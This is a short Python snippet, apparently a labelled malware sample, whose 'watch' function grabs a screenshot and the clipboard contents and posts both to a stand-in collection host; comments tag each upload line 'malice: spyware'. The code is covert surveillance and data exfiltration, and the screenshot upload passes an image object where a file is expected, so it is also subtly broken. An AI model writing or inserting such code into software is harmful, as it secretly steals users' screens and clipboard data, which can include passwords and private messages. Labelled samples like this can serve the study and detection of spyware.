import pyperclip
import requests
from PIL import ImageGrab


def watch():
    picture = ImageGrab.grab()
    picture.save("shot.png")
    requests.post("https://collect.invalid", files={"f": picture})  # malice: spyware
    requests.post("https://collect.invalid", json={"t": pyperclip.paste()})  # malice: spyware
